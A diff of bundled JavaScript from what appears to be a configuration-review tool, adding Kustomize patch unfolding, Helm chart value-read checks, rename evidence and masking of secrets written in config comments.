         this.#pair = pair2;
         this.#dialect = dialect26;
+        this.#evidence = evidence;
       }
       visit(spot) {
         if (spot.after === void 0) return this.#cameOrWent("removed", spot);
@@ -20118,16 +25804,17 @@ var init_diff = __esm({
       #compareMaps(before3, after2, spot) {
         const removed3 = [...before3.entries].filter(([key4]) => !after2.entries.has(key4));
         const added2 = [...after2.entries].filter(([key4]) => !before3.entries.has(key4));
-        const renamed5 = this.#hasClosedKeys(spot) ? /* @__PURE__ */ new Map() : matchRenames(removed3, added2);
+        const { renamed: renamed5, maybe } = this.#hasClosedKeys(spot) ? NO_MATCHES : matchKeys(removed3, added2, this.#evidence);
         for (const [key4, now] of after2.entries) {
           const from3 = renamed5.get(key4);
           const child = this.#below(spot, { kind: "key", name: key4 }, before3.entries.get(from3 ?? key4), now);
-          if (from3 !== void 0) this.#emit("renamed", child, from3);
+          if (from3 !== void 0) this.#emit("renamed", child, { from: from3, reader: this.#evidence(from3, key4) });
           this.visit(child);
         }
         const stillThere = new Set(renamed5.values());
         for (const [key4, old] of removed3)
-          if (!stillThere.has(key4)) this.visit(this.#below(spot, { kind: "key", name: key4 }, old, void 0));
+          if (!stillThere.has(key4))
+            this.#cameOrWent("removed", this.#below(spot, { kind: "key", name: key4 }, old, void 0), maybe.get(key4));
       }
       #compareLists(before3, after2, spot) {
         if (isPlain(before3) && isPlain(after2)) {
@@ -20140,10 +25827,10 @@ var init_diff = __esm({
         }
       }
       /** The root of what is new or gone, and all inside; but what a lost object held is lost with it, and no news. */
-      #cameOrWent(kind, spot) {
+      #cameOrWent(kind, spot, maybe) {
         const root = spot.after ?? spot.before;
         if (root === void 0) return;
-        this.#emit(kind, spot);
+        this.#emit(kind, spot, { maybe });
         const owner = this.#isObject(root, spot) ? whenObject(spot) : spot.owner;
         if (owner === "gone") return;
         const container2 = expand(root);
@@ -20173,8 +25860,8 @@ var init_diff = __esm({
         };
       }
       /** Whether what stands at a place is an object: see `Setting.owner`. */
-      #isObject(node2, { path: path25, keys, isNested }) {
-        if (path25.length === 0 || path25.at(-1)?.kind === "item") return true;
+      #isObject(node2, { path: path26, keys, isNested }) {
+        if (path26.length === 0 || path26.at(-1)?.kind === "item") return true;
         if (this.#dialect === void 0 || isNested) return node2.kind !== "scalar";
         return this.#asks((dialect26, document2) => dialect26.isObject?.(keys, document2));
       }
@@ -20194,9 +25881,10 @@ var init_diff = __esm({
         const document2 = this.#pair.after ?? this.#pair.before;
         return this.#dialect !== void 0 && document2 !== void 0 && (question(this.#dialect, document2) ?? false);
       }
-      #emit(kind, spot, from3) {
+      #emit(kind, spot, { from: from3, reader, maybe } = {}) {
         const setting = { ...spot, document: this.#pair, name: nameOf(spot.path) };
-        this.edits.push(from3 === void 0 ? { kind, setting } : { kind, setting, from: from3 });
+        const naming = { ...from3 === void 0 ? {} : { from: from3 }, ...maybe === void 0 ? {} : { maybe } };
+        this.edits.push({ kind, setting, ...naming, ...reader === void 0 ? {} : { reader } });
       }
     };
     whenObject = ({ after: after2 }) => after2 === void 0 ? "gone" : "born";
@@ -20205,33 +25893,10 @@ var init_diff = __esm({
   }
 });
 
-// src/domains/config/claims.ts
-function isConfiguration(path25) {
-  if (/\.ya?ml$/i.test(path25)) return !LOCKED.test(path25);
-  const name = path25.slice(path25.lastIndexOf("/") + 1);
-  return !ELSEWHERE.test(path25) && (IN_CONFIG.test(path25) || NAMES.some((pattern) => pattern.test(name)));
-}
-var NAMES, ELSEWHERE, IN_CONFIG, LOCKED;
-var init_claims = __esm({
-  "src/domains/config/claims.ts"() {
-    "use strict";
-    NAMES = [
-      /^appsettings(?:\.[\w-]+)?\.json$/i,
-      /^(?:local|host)\.settings\.json$/i,
-      /^(?:app-?)?config(?:uration)?(?:[.-](?:dev|development|stag|staging|prod|production|live|default|local|test))?\.jsonc?$/i,
-      /^(?:openapi|swagger)(?:[.-][\w.-]+)?\.json$/i,
-      /[.-]template\.json$/i
-    ];
-    ELSEWHERE = /(?:^|\/)(?:\.[^/]+|node_modules|vendor|templates|locales?|i18n|schemas?|fixtures?|testdata)\//i;
-    IN_CONFIG = /(?:^|\/)config\/(?:default|development|staging|production)\.json$/i;
-    LOCKED = /(?:^|\/)pnpm-lock\.yaml$/;
-  }
-});
-
 // src/domains/config/file-facts.ts
 function fileFacts({ before: before3, after: after2 }) {
   if (after2 === void 0) return [];
-  return [...conditionFacts(before3, after2), ...duplicateFacts(before3, after2)];
+  return [...conditionFacts(before3, after2), ...duplicateFacts(before3, after2), ...commentFacts(before3, after2)];
 }
 function conditionFacts(before3, after2) {
   if (before3 === void 0) return [];
@@ -20255,6 +25920,32 @@ function duplicateFacts(before3, after2) {
     ...contextOf({ area: areaOf(after2.path), isPublic: false })
   }));
 }
+function commentFacts(before3, after2) {
+  const { added: added2 } = compare(before3?.inComments ?? [], after2.inComments, ({ text: text4 }) => text4);
+  return added2.map(({ text: text4, line: line2 }) => ({
+    kind: "secret-written",
+    subject: after2.path,
+    key: text4,
+    after: { path: after2.path, line: line2 },
+    ...contextOf({ area: areaOf(after2.path), isPublic: false }),
+    name: "comment",
+    inComment: true,
+    looks: text4.slice(0, text4.lastIndexOf(" ")),
+    by: "format",
+    wasReference: false,
+    secret: true
+  }));
+}
+function withoutTold(ofFiles, ofTrees) {
+  const told4 = ofTrees.flatMap(({ kind, after: after2 }) => kind === "secret-written" && after2 ? [after2] : []);
+  return ofFiles.filter((fact5) => {
+    const { path: path26, line: line2 = 0 } = fact5.after ?? {};
+    const isTold = told4.some(
+      (place5) => place5.path === path26 && place5.line <= line2 && line2 <= (place5.endLine ?? place5.line)
+    );
+    return fact5.kind !== "secret-written" || !isTold;
+  });
+}
 var decides, conditionFact, duplicatesOf;
 var init_file_facts = __esm({
   "src/domains/config/file-facts.ts"() {
@@ -20263,15 +25954,15 @@ var init_file_facts = __esm({
     init_area();
     init_context();
     decides = ({ text: text4 }) => /^(?:else |el)?if /.test(text4);
-    conditionFact = (oldPath, path25, old, now) => ({
+    conditionFact = (oldPath, path26, old, now) => ({
       kind: "condition-changed",
-      subject: path25,
+      subject: path26,
       key: `${old.text}->${now.text}`,
       from: old.text,
       to: now.text,
       before: { path: oldPath, line: old.line },
-      after: { path: path25, line: now.line },
-      ...contextOf({ area: areaOf(path25), isPublic: false })
+      after: { path: path26, line: now.line },
+      ...contextOf({ area: areaOf(path26), isPublic: false })
     });
     duplicatesOf = (file2) => (file2?.documents ?? []).flatMap(({ duplicates }) => duplicates);
   }
@@ -20297,7 +25988,7 @@ function transitionOf(reading2, setting) {
   const rankOf8 = (node2) => node2 === void 0 || isDynamic(node2) && reading2.byPresence !== true ? void 0 : reading2.rank(node2, setting);
   const [from3, to2] = [rankOf8(before3), rankOf8(after2)];
   if (before3 === void 0) return whenSet(to2, reading2.absent, owner);
-  if (after2 === void 0) return whenDropped(from3, reading2.absent);
+  if (after2 === void 0) return isLeftToBase(setting) ? void 0 : whenDropped(from3, reading2.absent);
   if (isDynamic(after2) && reading2.byPresence !== true) return from3 === void 0 || from3 === 0 ? void 0 : "template";
   return whenMoved(from3, to2);
 }
@@ -20315,10 +26006,12 @@ function whenDropped(from3, absent2) {
   if (from3 > (absent2 ?? 0)) return "drop";
   return absent2 === void 0 || from3 === absent2 ? void 0 : "hardened";
 }
+var isLeftToBase;
 var init_control = __esm({
   "src/domains/config/control.ts"() {
     "use strict";
     init_tree();
+    isLeftToBase = ({ document: document2 }) => document2.after?.isPatch === true;
   }
 });
 
@@ -20326,6 +26019,7 @@ var init_control = __esm({
 function isSecret(setting) {
   const { document: document2, keys, name } = setting;
   if (isSecretKey(name) || keys.slice(-2).some(isSecretKey)) return true;
+  if (keys.includes("secretGenerator")) return true;
   const root = (document2.after ?? document2.before)?.root;
   return textAt(root, "kind") === "Secret" && ["data", "stringData"].includes(keys[0] ?? "");
 }
@@ -20334,29 +26028,29 @@ function shown3(node2, setting) {
   if (node2.kind === "list")
     return shorten(
       `[${textsOf(node2).map((text4) => shownText(text4, setting)).join(", ")}]`,
-      LONGEST5
+      LONGEST8
     );
   const tag2 = node2.tag === void 0 ? "" : `${node2.tag} `;
   if (node2.value === null) return "null";
   if (node2.text === "") return '""';
-  return tag2 + (node2.text.length < LONGEST5 && isReference(node2.text) ? shorten(node2.text, LONGEST5) : shownText(node2.text, setting));
+  return tag2 + (node2.text.length < LONGEST8 && isReference(node2.text) ? shorten(node2.text, LONGEST8) : shownText(node2.text, setting));
 }
-var MASK2, LONGEST5, shownText;
+var MASK3, LONGEST8, shownText;
 var init_shown = __esm({
   "src/domains/config/shown.ts"() {
     "use strict";
     init_present();
     init_secrets();
     init_tree();
-    MASK2 = "•••";
-    LONGEST5 = 80;
-    shownText = (text4, setting) => isSecret(setting) ? MASK2 : shorten(maskSecrets(text4.split("\n").join(" ")), LONGEST5);
+    MASK3 = "•••";
+    LONGEST8 = 80;
+    shownText = (text4, setting) => isSecret(setting) ? MASK3 : shorten(maskSecrets(text4.split("\n").join(" ")), LONGEST8);
   }
 });
 
 // src/domains/config/judge.ts
-function controlsAmong(rules7) {
-  const controls = rules7.filter(isControl);
+function controlsAmong(rules8) {
+  const controls = rules8.filter(isControl);
   const general = controls.filter(({ reading: reading2 }) => reading2.dialect === void 0);
   const own3 = (dialect26) => controls.filter(({ reading: reading2 }) => [reading2.dialect].flat().includes(dialect26));
   const byDialect = /* @__PURE__ */ new Map();
@@ -20415,7 +26109,7 @@ async function gatherApis(files4, input2) {
   const unreadable = [];
   const readers = ["base", "head"].map((side3) => {
     const known3 = new Map(files4.flatMap((pair2) => parsed(side3 === "base" ? pair2.before : pair2.after)));
-    return new Reader(input2[side3], known3, (path25, error) => unreadable.push(unreadableFact(path25, side3, error)));
+    return new Reader(input2[side3], known3, (path26, error) => unreadable.push(unreadableFact(path26, side3, error)));
   });
   const [base, head] = readers;
   if (base === void 0 || head === void 0) return { roots: [], unreadable };
@@ -20429,39 +26123,39 @@ async function gatherApis(files4, input2) {
 async function rootsAround(parts, files4, { base, head }) {
   const folders = new Set(parts.flatMap(foldersAbove));
   const known3 = new Set(files4.map(({ file: file2 }) => file2.path));
-  const paths3 = (await head.list()).filter((path25) => ROOT_NAME.test(basename2(path25)) && folders.has(dirname3(path25)) && !known3.has(path25)).slice(0, MOST_ROOTS);
+  const paths3 = (await head.list()).filter((path26) => ROOT_NAME.test(basename2(path26)) && folders.has(dirname3(path26)) && !known3.has(path26)).slice(0, MOST_ROOTS);
   const pairs = [];
-  for (const path25 of paths3) {
-    const [before3, after2] = await Promise.all([readIfApi(base, path25), readIfApi(head, path25)]);
-    if (before3 && after2) pairs.push({ file: { path: path25, status: "modified" }, before: before3, after: after2 });
+  for (const path26 of paths3) {
+    const [before3, after2] = await Promise.all([readIfApi(base, path26), readIfApi(head, path26)]);
+    if (before3 && after2) pairs.push({ file: { path: path26, status: "modified" }, before: before3, after: after2 });
   }
   return pairs;
 }
-function foldersAbove(path25) {
-  const folder = dirname3(path25);
+function foldersAbove(path26) {
+  const folder = dirname3(path26);
   return folder === "." ? ["."] : [folder, ...foldersAbove(folder)];
 }
-async function readIfApi(tree2, path25) {
+async function readIfApi(tree2, path26) {
   try {
-    const text4 = await tree2.read(path25);
-    const file2 = text4 === void 0 ? void 0 : parse3(text4, path25);
+    const text4 = await tree2.read(path26);
+    const file2 = text4 === void 0 ? void 0 : parse3(text4, path26);
     return file2?.documents.some(isOpenApi) === true ? file2 : void 0;
   } catch (error) {
     if (error instanceof Unreadable) return void 0;
     throw error;
   }
 }
-function referencesOf({ root, path: path25 }) {
+function referencesOf({ root, path: path26 }) {
   const found = /* @__PURE__ */ new Set();
   const waiting = [root];
   for (let node2 = waiting.pop(); node2 !== void 0; node2 = waiting.pop()) {
-    const target = targetOf4(textAt(node2, "$ref") ?? "", path25);
-    if (target !== void 0 && target.path !== path25) found.add(target.path);
+    const target = targetOf4(textAt(node2, "$ref") ?? "", path26);
+    if (target !== void 0 && target.path !== path26) found.add(target.path);
     waiting.push(...childrenOf(node2));
   }
   return [...found];
 }
-var MOST_FILES, MOST_ROOTS, ROOT_NAME, PART_KEYS, parsed, isPart, Reader;
+var MOST_FILES2, MOST_ROOTS, ROOT_NAME, PART_KEYS, parsed, isPart, Reader;
 var init_gather = __esm({
   "src/domains/config/openapi/gather.ts"() {
     "use strict";
@@ -20471,7 +26165,7 @@ var init_gather = __esm({
     init_tree();
     init_model5();
     init_origins();
-    MOST_FILES = 200;
+    MOST_FILES2 = 200;
     MOST_ROOTS = 20;
     ROOT_NAME = /^(?:openapi|swagger|api|index|main|root|spec)[\w.-]*\.(?:ya?ml|json)$/i;
     PART_KEYS = ["$ref", "allOf", "oneOf", "anyOf", "properties", "type", "responses", "schema", "in", "content"];
@@ -20508,15 +26202,15 @@ var init_gather = __esm({
         for (let next = waiting.shift(); next !== void 0; next = waiting.shift()) {
           const targets = referencesOf(next);
           if (targets.length > 0 || next !== first) claim(next);
-          for (const path25 of targets) waiting.push(...await this.#join(next, path25));
+          for (const path26 of targets) waiting.push(...await this.#join(next, path26));
         }
       }
       /** Ties a file to one that it refers to, and gives that back where it is met for the first time. */
-      async #join(file2, path25) {
-        const isNew2 = !this.#files.has(path25);
-        if (isNew2 && this.#files.size >= MOST_FILES) return [];
-        const found = await this.#read(path25);
-        if (found !== void 0) file2.siblings.set(path25, found);
+      async #join(file2, path26) {
+        const isNew2 = !this.#files.has(path26);
+        if (isNew2 && this.#files.size >= MOST_FILES2) return [];
+        const found = await this.#read(path26);
+        if (found !== void 0) file2.siblings.set(path26, found);
         return found !== void 0 && isNew2 ? [found] : [];
       }
       /** Whether a description refers to a file, through however many others. */
@@ -20532,26 +26226,248 @@ var init_gather = __esm({
         }
         return false;
       }
-      #read(path25) {
-        const known3 = this.#files.get(path25) ?? this.#load(path25);
-        this.#files.set(path25, known3);
+      #read(path26) {
+        const known3 = this.#files.get(path26) ?? this.#load(path26);
+        this.#files.set(path26, known3);
         return known3;
       }
-      async #load(path25) {
-        const root = this.#known.get(path25) ?? await this.#parse(path25);
-        return root && { path: path25, root, siblings: /* @__PURE__ */ new Map() };
+      async #load(path26) {
+        const root = this.#known.get(path26) ?? await this.#parse(path26);
+        return root && { path: path26, root, siblings: /* @__PURE__ */ new Map() };
       }
-      async #parse(path25) {
+      async #parse(path26) {
         try {
-          const text4 = await this.#tree.read(path25);
-          return text4 === void 0 ? void 0 : parse3(text4, path25).documents[0]?.root;
+          const text4 = await this.#tree.read(path26);
+          return text4 === void 0 ? void 0 : parse3(text4, path26).documents[0]?.root;
         } catch (error) {
           if (!(error instanceof Unreadable)) throw error;
-          this.#fail(path25, error);
+          this.#fail(path26, error);
           return void 0;
         }
       }
     };
+  }
+});
+
+// src/domains/config/kustomize/json-patch.ts
+function patchedObject(patch, target) {
+  const group5 = textAt(target, "group");
+  const version = textAt(target, "version") ?? "v1";
+  const root = new Branch();
+  for (const item2 of patch.items) {
+    const value = at(item2, "value");
+    if (value !== void 0 && textAt(item2, "op") !== "test") root.put(pointerOf(textAt(item2, "path") ?? ""), value);
+  }
+  const { line: line2, endLine } = patch;
+  const text4 = (value) => ({ kind: "scalar", text: value, value, line: line2, endLine: line2, ...LEAF, contentLine: line2 });
+  root.put(["apiVersion"], text4(group5 === void 0 || group5 === "" ? version : `${group5}/${version}`));
+  for (const [key4, path26] of NAMED2) {
+    const named6 = textAt(target, key4);
+    if (named6 !== void 0) root.put(path26, text4(named6));
+  }
+  return root.node(line2, endLine);
+}
+function grown(below7) {
+  if (!(below7 instanceof Branch)) return below7;
+  const map5 = below7.node(1, 1);
+  const children2 = [...map5.entries.values()];
+  const line2 = Math.min(...children2.map((child) => child.line));
+  const endLine = Math.max(...children2.map((child) => child.endLine));
+  if (!below7.isList) return { ...map5, line: line2, endLine };
+  return { kind: "list", items: children2, line: line2, endLine, ...measured(children2) };
+}
+var isJsonPatch, LEAF, NAMED2, pointerOf, DEEPEST2, Branch;
+var init_json_patch = __esm({
+  "src/domains/config/kustomize/json-patch.ts"() {
+    "use strict";
+    init_growth();
+    init_tree();
+    isJsonPatch = (node2) => node2?.kind === "list" && node2.items.length > 0 && node2.items.every((item2) => textAt(item2, "op") !== void 0 && textAt(item2, "path")?.startsWith("/") === true);
+    LEAF = { size: 1, depth: 1 };
+    NAMED2 = [
+      ["kind", ["kind"]],
+      ["name", ["metadata", "name"]],
+      ["namespace", ["metadata", "namespace"]]
+    ];
+    pointerOf = (pointer) => pointer.split("/").slice(1, DEEPEST2).map((part) => part.replaceAll("~1", "/").replaceAll("~0", "~"));
+    DEEPEST2 = 50;
+    Branch = class _Branch {
+      #below = /* @__PURE__ */ new Map();
+      put([key4 = "", ...rest], value) {
+        if (rest.length === 0) {
+          this.#below.set(key4, value);
+          return;
+        }
+        const known3 = this.#below.get(key4);
+        const branch = known3 instanceof _Branch ? known3 : new _Branch();
+        if (known3 !== void 0 && !(known3 instanceof _Branch))
+          for (const [name, node2] of entriesOf(known3)) branch.put([name], node2);
+        this.#below.set(key4, branch);
+        branch.put(rest, value);
+      }
+      node(line2, endLine) {
+        return mapOf2(new Map([...this.#below].map(([key4, below7]) => [key4, grown(below7)])), line2, endLine);
+      }
+      /** Keys that are all places of a list make one. */
+      get isList() {
+        return [...this.#below.keys()].every((key4) => /^(?:\d+|-)$/.test(key4));
+      }
+    };
+  }
+});
+
+// src/domains/config/kustomize/kustomization.ts
+import { posix } from "node:path";
+function unfold(root) {
+  const spec = at(root, "spec");
+  const holder = spec !== void 0 && PATCHES.some((key4) => at(spec, key4)) ? spec : root;
+  const entries2 = PATCHES.flatMap((key4) => itemsAt(holder, key4));
+  const patches = [...entries2.flatMap(inlinePatch), ...itemsAt(root, "replicas").flatMap(replicaPatch)];
+  return { root: withoutInline(root), patches };
+}
+function inlinePatch(entry2) {
+  const written3 = entry2.kind === "scalar" ? entry2 : at(entry2, "patch");
+  const patch = written3?.kind === "scalar" ? nestedIn(written3) : written3;
+  if (patch === void 0) return [];
+  return isJsonPatch(patch) ? [patchedObject(patch, at(entry2, "target"))] : [withTarget(patch, at(entry2, "target"))];
+}
+function withTarget(patch, target) {
+  if (patch.kind !== "map" || textAt(patch, "kind") !== void 0 || target === void 0) return patch;
+  const named6 = patchedObject(
+    { kind: "list", items: [], line: patch.line, endLine: patch.endLine, size: 1, depth: 1 },
+    target
+  );
+  return mapOf2(new Map([...named6.entries, ...patch.entries]), patch.line, patch.endLine);
+}
+function replicaPatch(entry2) {
+  const [name, count7] = [at(entry2, "name"), at(entry2, "count")];
+  if (name === void 0 || count7 === void 0) return [];
+  const text4 = (value) => ({ ...name, kind: "scalar", text: value, value, contentLine: name.line });
+  const map5 = (entries2) => mapOf2(new Map(entries2), entry2.line, entry2.endLine);
+  return [
+    map5([
+      ["apiVersion", text4("apps/v1")],
+      ["kind", text4("Deployment")],
+      ["metadata", map5([["name", name]])],
+      ["spec", map5([["replicas", count7]])]
+    ])
+  ];
+}
+function withoutInline(root) {
+  if (root.kind !== "map") return root;
+  const entries2 = [...root.entries].flatMap(([key4, node2]) => {
+    if (key4 === "replicas") return [];
+    if (key4 === "spec") return [[key4, withoutInline(node2)]];
+    return [
+      [
+        key4,
+        PATCHES.some((name) => name === key4) && node2.kind === "list" ? { ...node2, items: node2.items.flatMap(bare) } : node2
+      ]
+    ];
+  });
+  return { ...root, entries: new Map(entries2) };
+}
+function bare(entry2) {
+  if (entry2.kind === "scalar") return nestedIn(entry2) === void 0 ? [entry2] : [];
+  if (entry2.kind !== "map" || inlinePatch(entry2).length === 0) return [entry2];
+  return [{ ...entry2, entries: new Map(entriesOf(entry2).filter(([key4]) => key4 !== "patch")) }];
+}
+function patchFiles(root, folder) {
+  const found = /* @__PURE__ */ new Map();
+  for (const entry2 of PATCHES.flatMap((key4) => itemsAt(root, key4))) {
+    const path26 = entry2.kind === "scalar" ? entry2.text : textAt(entry2, "path");
+    if (path26 !== void 0 && !path26.includes("\n")) found.set(posix.join(folder, path26), at(entry2, "target"));
+  }
+  return found;
+}
+var API, FILE_NAMES, FILE, PATCHES, isKustomization;
+var init_kustomization = __esm({
+  "src/domains/config/kustomize/kustomization.ts"() {
+    "use strict";
+    init_growth();
+    init_nested();
+    init_tree();
+    init_json_patch();
+    API = /^kustomize\.(?:config\.k8s\.io|toolkit\.fluxcd\.io)\//;
+    FILE_NAMES = ["kustomization.yaml", "kustomization.yml", "Kustomization"];
+    FILE = /(?:^|\/)(?:kustomization\.ya?ml|Kustomization)$/;
+    PATCHES = ["patches", "patchesStrategicMerge", "patchesJson6902"];
+    isKustomization = (root, path26) => root.kind === "map" && (FILE.test(path26) || API.test(textAt(root, "apiVersion") ?? ""));
+  }
+});
+
+// src/domains/config/kustomize/patches.ts
+import { posix as posix2 } from "node:path";
+async function withPatches(pairs, { base, head }) {
+  const [before3, after2] = [patchReader(base), patchReader(head)];
+  return Promise.all(
+    pairs.map(async (pair2) => ({
+      ...pair2,
+      before: pair2.before && await unfolded(pair2.before, before3),
+      after: pair2.after && await unfolded(pair2.after, after2)
+    }))
+  );
+}
+async function unfolded(file2, patchesAround) {
+  if (!file2.documents.some(({ root, path: path26 }) => isKustomization(root, path26) || mayBePatch(root))) return file2;
+  const listed10 = await patchesAround(file2.path);
+  const documents = file2.documents.flatMap((document2) => {
+    if (isKustomization(document2.root, file2.path)) {
+      const { root: root2, patches } = unfold(document2.root);
+      return [
+        { ...document2, root: root2 },
+        ...patches.map((patch) => ({ ...document2, duplicates: [], root: patch, isPatch: true }))
+      ];
+    }
+    if (!listed10.has(file2.path)) return [isPartial(document2) ? { ...document2, isPatch: true } : document2];
+    const root = isJsonPatch(document2.root) ? patchedObject(document2.root, listed10.get(file2.path)) : document2.root;
+    return [{ ...document2, root, isPatch: true }];
+  });
+  return { ...file2, documents, several: file2.several || documents.length > 1 };
+}
+function patchReader(tree2) {
+  const known3 = /* @__PURE__ */ new Map();
+  const patchesIn = (folder) => {
+    const found = known3.get(folder) ?? patchesOf(tree2, folder);
+    known3.set(folder, found);
+    return found;
+  };
+  return async (path26) => {
+    const folders = [path26, posix2.dirname(path26), posix2.dirname(posix2.dirname(path26))].map((each) => posix2.dirname(each));
+    const found = await Promise.all([...new Set(folders)].map(patchesIn));
+    return new Map(found.flatMap((patches) => [...patches]));
+  };
+}
+async function patchesOf(tree2, folder) {
+  for (const name of FILE_NAMES) {
+    const path26 = posix2.join(folder, name);
+    const root = await rootOf(tree2, path26);
+    if (root !== void 0) return patchFiles(root, folder);
+  }
+  return /* @__PURE__ */ new Map();
+}
+async function rootOf(tree2, path26) {
+  try {
+    const text4 = await hintIn(tree2, path26);
+    return text4 === void 0 ? void 0 : parse3(text4, path26).documents[0]?.root;
+  } catch (error) {
+    if (error instanceof Unreadable) return void 0;
+    throw error;
+  }
+}
+var mayBePatch, NAMED_PATCH, isPartial;
+var init_patches = __esm({
+  "src/domains/config/kustomize/patches.ts"() {
+    "use strict";
+    init_errors();
+    init_parse();
+    init_hint();
+    init_tree();
+    init_json_patch();
+    init_kustomization();
+    mayBePatch = (root) => isJsonPatch(root) || textAt(root, "apiVersion") !== void 0 && textAt(root, "kind") !== void 0;
+    NAMED_PATCH = /(?:^|[/_.-])patch(?:es)?(?:[/_.-]|$)/i;
+    isPartial = ({ root, path: path26 }) => NAMED_PATCH.test(path26) && at(root, "spec", "selector") === void 0;
   }
 });
 
@@ -20711,17 +26627,113 @@ function byLikeness(before3, after2) {
   const [old, now] = [removed3[0], added2[0]];
   if (old && now && removed3.length === 1 && added2.length === 1 && !hasIdentity(old) && !hasIdentity(now))
     return [...matched, { before: old, after: now }];
-  return [...matched, ...pairByLikeness(removed3, added2, ({ document: document2 }) => document2.root, RENAMED2)];
+  return [...matched, ...pairByLikeness(removed3, added2, ({ document: document2 }) => document2.root, RENAMED3)];
 }
-var RENAMED2, hasIdentity;
+var RENAMED3, hasIdentity;
 var init_pair_documents = __esm({
   "src/domains/config/pair-documents.ts"() {
     "use strict";
     init_compare();
     init_likeness();
     init_pairing();
-    RENAMED2 = 0.6;
+    RENAMED3 = 0.6;
     hasIdentity = (known3) => known3.identity !== void 0;
+  }
+});
+
+// src/domains/config/readers/charts.ts
+async function readsOfChart(tree2, folder) {
+  const paths3 = await tree2.list(folder === "" ? "templates" : `${folder}/templates`);
+  if (paths3.length > MOST_TEMPLATES) return [];
+  const found = await Promise.all(paths3.map(async (path26) => readsIn(await hintIn(tree2, path26) ?? "", path26)));
+  const reads = found.flat();
+  const subcharts = reads.length === 0 ? /* @__PURE__ */ new Set() : await subchartsOf(tree2, folder);
+  return reads.filter(({ keys }) => !subcharts.has(keys[0] ?? ""));
+}
+async function subchartsOf(tree2, folder) {
+  const files4 = ["Chart.yaml", "requirements.yaml"].map((name) => folder === "" ? name : `${folder}/${name}`);
+  const texts2 = await Promise.all(files4.map((path26) => hintIn(tree2, path26)));
+  const names4 = texts2.flatMap((text4) => [...(text4 ?? "").matchAll(NAME2)].map(([, name = ""]) => name));
+  return /* @__PURE__ */ new Set(["global", ...names4]);
+}
+function readsIn(text4, path26) {
+  if (text4.length > LONGEST9) return [];
+  const reads = [];
+  const around = [];
+  let [line2, rest] = [1, 0];
+  for (const { start: start2, end } of actions(text4)) {
+    line2 += lineEnds(text4.slice(rest, start2));
+    rest = start2;
+    const words2 = text4.slice(start2, end).replace(/^\{\{-?/, "").replace(/-?\}\}$/, "").trim();
+    if (words2.startsWith("/*")) continue;
+    const named6 = [...words2.matchAll(VALUES2)].map(([, keys = ""]) => keys.slice(1));
+    if (/^(?:end|else)\b/.test(words2)) around.pop();
+    for (const keys of named6) {
+      const guards2 = [...around.flat(), ...named6.filter((other) => other !== keys)];
+      reads.push({ path: path26, line: line2, keys: keys.split("."), guards: guards2, isBare: BARE.test(words2) });
+    }
+    if (OPENS.test(words2) || /^else\b/.test(words2)) around.push(named6);
+  }
+  return reads;
+}
+var MOST_TEMPLATES, LONGEST9, NAME2, VALUES2, BARE, OPENS, lineEnds;
+var init_charts = __esm({
+  "src/domains/config/readers/charts.ts"() {
+    "use strict";
+    init_mask();
+    init_hint();
+    MOST_TEMPLATES = 500;
+    LONGEST9 = 3e5;
+    NAME2 = /^[ \t-]*(?:name|alias):[ \t]*["']?([\w-]+)/gm;
+    VALUES2 = /(?<![\w.)])\$?\.Values((?:\.[A-Za-z_]\w*)+)/g;
+    BARE = /^\$?\.Values[\w.]+(?:\s*\|\s*(?:quote|squote|int|int64|trim|toString|upper|lower|b64enc|n?indent \d+))*$/;
+    OPENS = /^(?:if|with|range|define|block)\b/;
+    lineEnds = (text4) => text4.split("\n").length - 1;
+  }
+});
+
+// src/domains/config/readers/readers.ts
+function mayHoldRename(edits) {
+  const parents = (kind) => edits.flatMap(
+    ({ kind: is2, setting: { document: document2, path: path26 } }) => is2 === kind && path26.at(-1)?.kind === "key" ? [`${document2.path} ${displayPath(path26.slice(0, -1))}`] : []
+  );
+  const losing = new Set(parents("removed"));
+  return losing.size > 0 && parents("added").some((parent) => losing.has(parent));
+}
+async function withStillRead(edits, { head }) {
+  const folder = edits.some(isGone) ? chartOf(edits[0]?.setting.document.after?.path) : void 0;
+  if (folder === void 0) return edits;
+  const reads = await readsOfChart(head, folder);
+  return reads.length === 0 ? edits : edits.map((edit) => isGone(edit) ? marked3(edit, reads) : edit);
+}
+function marked3(edit, reads) {
+  const { keys } = edit.setting;
+  const [old, now] = edit.kind === "removed" ? [keys, void 0] : [oldKeys(edit), keys];
+  const stillRead = readOf(old, now, reads);
+  return stillRead === void 0 ? edit : { ...edit, stillRead };
+}
+function readOf(old, now, reads) {
+  const gone7 = old.join(".");
+  const own3 = reads.filter(({ keys }) => beginsWith(keys, old));
+  const guarded = ({ guards: guards2 }) => guards2.some((guard2) => guard2 === gone7 || gone7.startsWith(`${guard2}.`));
+  const fails = own3.find((read4) => read4.keys.length > old.length && !guarded(read4));
+  if (fails) return { path: fails.path, line: fails.line, fails: true };
+  const isHalfDone = now !== void 0 && !reads.some(({ keys }) => beginsWith(keys, now));
+  const suffers = isHalfDone ? own3[0] : own3.find((read4) => read4.isBare && !read4.guards.includes(gone7));
+  return suffers && { path: suffers.path, line: suffers.line, fails: false };
+}
+var evidenceFor, chartOf, isGone, oldKeys, beginsWith;
+var init_readers = __esm({
+  "src/domains/config/readers/readers.ts"() {
+    "use strict";
+    init_setting();
+    init_charts();
+    init_evidence();
+    evidenceFor = (edits, input2) => edits.some(({ kind }) => kind === "renamed") || mayHoldRename(edits) ? evidenceIn(input2) : noEvidence;
+    chartOf = (path26 = "") => /^(.*\/)?values\.ya?ml$/.exec(path26)?.[0].replace(/\/?[^/]*$/, "");
+    isGone = ({ kind, setting: { path: path26 } }) => (kind === "removed" || kind === "renamed" || kind === "moved") && path26.every((step3) => step3.kind === "key");
+    oldKeys = ({ kind, from: from3 = "", setting: { keys } }) => kind === "moved" ? from3.split(".") : [...keys.slice(0, -1), from3];
+    beginsWith = (keys, start2) => start2.every((key4, i) => keys[i] === key4);
   }
 });
 
@@ -20747,9 +26759,9 @@ var init_vocabulary2 = __esm({
     init_words();
     spellings = /* @__PURE__ */ new WeakMap();
     SWITCH = "(?:-(?:enabled?|enforced?|required?|active|activated|mode|on))?";
-    blockOr = (rank4) => (node2, { path: path25 }) => {
+    blockOr = (rank4) => (node2, { path: path26 }) => {
       if (node2.kind === "scalar") return rank4(node2);
-      const last2 = path25.at(-1);
+      const last2 = path26.at(-1);
       if (node2.kind !== "map" || node2.entries.size === 0 || last2?.kind !== "key") return void 0;
       const switches = ["enabled", "enable"].map((key4) => switchOf(at(node2, key4))).filter((on4) => on4 !== void 0);
       if (switches.length > 0) return Number(switches[0]);
@@ -20776,8 +26788,8 @@ var init_wording = __esm({
 });
 
